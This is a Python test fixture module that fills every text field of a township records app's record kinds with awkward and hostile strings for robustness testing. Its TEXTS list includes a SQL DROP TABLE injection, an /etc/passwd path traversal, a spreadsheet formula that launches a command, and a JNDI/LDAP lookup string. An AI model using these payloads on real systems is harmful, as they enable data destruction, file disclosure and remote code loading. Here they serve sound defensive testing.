"""Texts that may do harm where they are stored, compared, shown or printed, in whole records."""

from __future__ import annotations

from typing import Any

from tests.sync.sample import XIANG, ZONE
from tests.today import china_today
from township.changes import Op
from township.fields import Field
from township.records import new_id, record_kinds
from township.rules.permissions import Act, may
from township.values import Kind

TEXTS: dict[str, str] = {
    "NUL": "王\0二",
    "only NUL": "\0",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x85",
    "bidi": "\u202e二王\u202c\u2066\u2067\u200f",
    "lines": "一\r\n二\u2028三\u2029四",
    "four bytes": "𠮷😀👨\u200d👩\u200d👧🇨🇳",
    "combining": "王" + "\u0301" * 500,
    "noncharacters": "\ufffe\uffff\U0010ffff\ufeff\ufdd0",
    "SQL": "'; DROP TABLE household; -- \" ` \\",
    "like": "%_\\%*?[a]",
    "search words": 'NEAR( "a* OR b" AND NOT :c ^',
    "path": "../../../etc/passwd",
    "windows path": "\\\\host\\share\\CON:AUX.lpt1",
    "html": "<img src='file:///etc/passwd'><a href='http://x'>王</a>&lt;b&gt;&amp;",
    "markup": "<para><font size=500>王</font></para>",
    "formula": '=HYPERLINK("http://x","王")+cmd|\' /C calc\'!A0',
    "format": "{0.__class__}%s%n%(name)s${jndi:ldap://x}",
    "blank": " \t\u3000\u200b ",
    "long word": "王" * 2_000,
    "long text": "王二 " * 700,
    "longest": "长" * 10_000,
}
_PEOPLE = (
    *("cadre_id", "owner_point", "reported_by", "helper_id", "assessor_id"),
    *("convener_id", "owner_id", "reporter_id"),
)
_REFS = {
    "zone_id": ZONE,
    "group_id": new_id(),
    **dict.fromkeys(_PEOPLE, XIANG),
}
_SHOWN = {
    "work_log": {"state": "submitted", "sessions": "am", "work_kind": "visit"},
    "visit": {"session": "am", "way": "in_home", "purpose": "routine"},
    "situation": {"situation_kind": "disaster", "level": "emergency"},
    "need": {"channel": "visit", "topic": "water", "state": "new"},
    "meeting": {"level": "village", "meeting_kind": "regular", "minutes_state": "draft"},
    "resolution": {"state": "open"},
    "task": {"source": "visit", "state": "open"},
    "dispute": {"state": "open", "level": "yellow"},
}
"""Codes with which the lists show a record."""
_WORDS = (Kind.NAME, Kind.TEXT, Kind.LONG_TEXT, Kind.PHONE, Kind.ID_NO)
_CODED = (Kind.CODE, Kind.CODES)


_OVER = {
    "done_at",
    "died_on",
    "moved_on",
    "until_on",
    "to_on",
    "closed_at",
    "fed_back_at",
    "decision",
    "decision_note",
    "decided_by",
    "decided_on",
    "posted_on",
}
"""Fields that would take a record off the lists."""
_OTHERS = {"approved_by", "approved_on"}
"""Approvals, which nobody of these roles may give for every kind."""


_ROOM = 60_000
"""Bytes of text in one operation, which has its own limit."""
ROLES = ("VC", "VS", "LL", "PGO", "CLK")


def _held() -> list[str]:
    """The kinds that a laptop of these roles writes and keeps rows of."""
    kinds = record_kinds().items()
    return [kind for kind, one in kinds if not one.outgoing and may(ROLES, Act.CREATE, kind)]


class Records:
    """One record of every kind that the zone's laptops write, each naming the others."""

    def __init__(self, text: str, *, coded: bool = False) -> None:
        self.text = text
        self._kinds = _CODED if coded else _WORDS
        self.ids = {kind: new_id() for kind in _held()}

    def ops(self) -> list[Op]:
        """Their inserts."""
        return [self._op(kind) for kind in self.ids]

    def texts(self, kind: str) -> list[str]:
        """The fields that hold the text."""
        fields = record_kinds()[kind].fields()
        names = [name for name, field in fields.items() if field.kind in self._kinds]
        names = [name for name in names if name not in _OVER]
        if len(self.text.encode()) * len(names) < _ROOM:
            return names
        long = [name for name in names if fields[name].kind is Kind.LONG_TEXT]
        return (long or names)[-1:]

    def _op(self, kind: str) -> Op:
        record = record_kinds()[kind]
        zone = "township" if record.township_wide else ZONE.hex()
        fields = {name: self._value(kind, name, field) for name, field in record.fields().items()}
        fields |= dict.fromkeys((_OVER | _OTHERS) & fields.keys())
        return Op(kind, self.ids[kind], "insert", f"{zone}/{record.data_class}", fields)

    def _value(self, kind: str, name: str, field: Field) -> Any:
        if name in self.texts(kind):
            return self.text
        if field.kind in _CODED:
            codes = list(field.codes or ())
            return _SHOWN.get(kind, {}).get(name, codes[0] if codes else None)
        if field.kind is Kind.REF:
            target = (field.target or "").removesuffix("_id")
            return _REFS.get(name) or self.ids.get(target)
        return {
            Kind.NUMBER: china_today().year if name == "year" else 3,
            Kind.DATE: china_today().isoformat(),
            Kind.MOMENT: f"{china_today().isoformat()}T00:05:00Z",
            Kind.PACKED: b"\xa3" + "王".encode(),
        }.get(field.kind)
